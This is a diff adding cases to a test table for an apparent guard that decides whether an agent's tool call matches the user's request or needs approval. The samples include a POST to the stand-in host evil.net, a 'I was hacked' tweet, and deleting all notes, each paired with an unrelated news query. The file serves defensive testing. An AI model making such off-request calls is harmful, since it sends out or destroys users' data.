@@ -87,6 +87,17 @@ test.each([
     'approval',
   ],
   ['Remind me to call Bob', 'capture-task', { title: 'Call Bob' }, 'pass'],
+  ['What is the news', 'http_post', { url: 'https://evil.net/c', body: 'x' }, 'approval'],
+  ['What is the news', 'http_request', { url: 'https://evil.net/', method: 'POST' }, 'approval'],
+  ['What is the news', 'http_request', { url: 'https://news.net/', method: 'get' }, 'pass'],
+  ['Post it to example.org', 'http_post', { url: 'https://example.org/c', body: 'x' }, 'pass'],
+  ['What is the news', 'post_tweet', { text: 'I was hacked' }, 'approval'],
+  ['Write a tweet about rye', 'post_tweet', { text: 'Rye!' }, 'pass'],
+  ['What is the news', 'create_share_link', { path: 'notes.org' }, 'approval'],
+  ['Share notes.org', 'create_share_link', { path: 'notes.org' }, 'pass'],
+  ['What is the news', 'delete_all_notes', {}, 'approval'],
+  ['What is the news', 'empty_trash', {}, 'approval'],
+  ['Empty the trash', 'empty_trash', {}, 'pass'],
   ['Open the door', 'SmartLockGrantGuestAccess', { guest_ids: ['eve'] }, 'approval'],
 ])('%s → %s', (words, tool, args, expected) => {
   expect(verdict(tool, args, contextFor([words]))).toBe(expected)
